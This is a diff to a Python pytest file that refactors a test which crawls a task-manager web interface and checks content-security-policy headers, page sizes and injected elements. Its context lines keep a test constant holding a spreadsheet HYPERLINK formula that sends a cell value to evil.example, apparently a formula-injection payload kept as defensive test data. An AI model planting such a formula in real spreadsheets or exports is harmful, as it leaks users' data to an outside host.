@@ -6,18 +6,17 @@ import io
 import json
 import re
 import sqlite3
-from collections import deque
 from collections.abc import AsyncIterator
 from contextlib import closing
 from pathlib import Path
 from typing import Any, Final
-from urllib.parse import urljoin, urlsplit
+from urllib.parse import urlsplit
 
 import pytest
 
 from taskmanager import TaskManager, Workflow, current_task
-from tests.web.pages import Element, elements_of, text_of
-from tests.web.visitor import SITE, Visitor, manager_on, visit
+from tests.web.pages import Element, elements_of, text_of, walk
+from tests.web.visitor import Visitor, manager_on, visit
 
 pytestmark = pytest.mark.anyio
 
@@ -30,7 +29,6 @@ FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1,"pay")'
 NAME: Final = "evilname"
 LARGE: Final = 8_000_000
 MAX_PAGE_BYTES: Final = 500_000
-MAX_PAGES: Final = 400
 SHAPE: Final = frozenset(
     word
     for line in (
@@ -129,29 +127,17 @@ def faults_of(element: Element) -> list[str]:
 
 async def test_no_page_takes_a_text_for_more_than_text(visitor: Visitor) -> None:
     """No element, attribute, script, link or hidden character comes from a row, and the policy of each page holds."""
-    waiting, seen = deque([f"{SITE}/"]), set[str]()
-    while waiting and len(seen) < MAX_PAGES:
-        address = waiting.popleft()
-        answer = await visitor.get(address)
-        kind = answer.headers.get("content-type", "")
+    shown = set()
+    async for address, answer in walk(visitor):
+        shown.add(urlsplit(address).path.split("/")[1])
         assert answer.status_code in (200, 303, 307), address
         assert "default-src 'none'" in answer.headers["content-security-policy"], address
-        if not kind.startswith("text/html"):
-            continue
-        assert len(answer.content) <= MAX_PAGE_BYTES, address
-        elements = elements_of(answer.text)
-        faults = [fault for element in elements for fault in faults_of(element)]
-        assert faults == [], address
-        assert UNSEEN.search(text_of(answer.text)) is None, address
-        for element in elements:
-            found = urljoin(address, element.attributes["href"]).split("#")[0] if "href" in element.attributes else ""
-            assert element.name in ("a", "link") or not found
-            if element.name == "a" and found and found not in seen:
-                assert found.startswith(f"{SITE}/"), found
-                seen.add(found)
-                waiting.append(found)
-    assert len(seen) > 10
-    shown = {urlsplit(each).path.split("/")[1] for each in seen}
+        if answer.headers.get("content-type", "").startswith("text/html"):
+            assert len(answer.content) <= MAX_PAGE_BYTES, address
+            elements = elements_of(answer.text)
+            assert [fault for element in elements for fault in faults_of(element)] == [], address
+            assert {each.name for each in elements if "href" in each.attributes} <= {"a", "link"}
+            assert UNSEEN.search(text_of(answer.text)) is None, address
     assert shown >= {"tasks", "queues", "schedules", "failures", "instances", "workflows"}
 
 
